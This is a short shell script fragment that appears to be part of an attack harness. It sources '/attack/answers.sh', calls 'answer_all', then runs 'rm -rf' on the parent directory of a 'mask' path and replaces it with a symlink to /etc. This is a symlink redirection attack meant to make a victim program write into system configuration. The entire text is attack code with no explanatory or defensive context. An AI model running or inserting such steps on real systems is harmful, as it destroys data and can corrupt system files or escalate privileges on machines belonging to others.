. /attack/answers.sh
answer_all
mask=$(first_mask)
rm -rf "${mask%/*}"
ln -s /etc "${mask%/*}"
